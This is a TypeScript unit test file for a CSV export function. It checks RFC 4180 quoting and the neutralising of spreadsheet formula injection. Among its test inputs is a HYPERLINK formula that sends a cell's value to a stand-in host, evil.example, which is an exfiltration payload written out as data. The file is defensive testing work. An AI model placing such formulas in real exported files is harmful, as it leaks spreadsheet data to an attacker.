import { toCsv } from './toCsv';

const cell = (value: string | number | boolean | undefined) =>
  toCsv([['v', (row: { v: typeof value }) => row.v]], [{ v: value }]).slice(
    'v\r\n'.length,
    -'\r\n'.length,
  );

describe('toCsv', () => {
  it('writes a header and one line per row, each ended by CRLF', () => {
    expect(
      toCsv<{ a: string; b?: number }>(
        [
          ['a', r => r.a],
          ['b', r => r.b],
        ],
        [{ a: 'x', b: 1 }, { a: 'y' }],
      ),
    ).toBe('a,b\r\nx,1\r\ny,\r\n');
    expect(toCsv([['a', () => 'x']], [])).toBe('a\r\n');
    expect(toCsv([['a,b', () => 'x']], [])).toBe('"a,b"\r\n');
  });

  it.each([
    ['a, b', '"a, b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['two\r\nlines', '"two\r\nlines"'],
    [' padded ', '" padded "'],
    ['plain', 'plain'],
    ['ünïcode 🚀', 'ünïcode 🚀'],
    [true, 'true'],
    [0, '0'],
    [undefined, ''],
  ])('quotes %j where RFC 4180 wants it', (value, expected) => {
    expect(cell(value)).toBe(expected);
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\tplain', "'\tplain"],
    ['\nplain', '"\'\nplain"'],
    ['\uFEFF=1', "'\uFEFF=1"],
    ['\r=1', '"\'\r=1"'],
    ['  =1', "'  =1"],
    ['＝1', "'＝1"],
    [
      '=HYPERLINK("https://evil.example?"&A1,"x")',
      '"\'=HYPERLINK(""https://evil.example?""&A1,""x"")"',
    ],
  ])('lets no spreadsheet run %j', (value, expected) => {
    expect(cell(value)).toBe(expected);
  });

  it('leaves numbers alone, and signs in the middle', () => {
    expect(cell(-1)).toBe('-1');
    expect(cell('a=b')).toBe('a=b');
  });
});
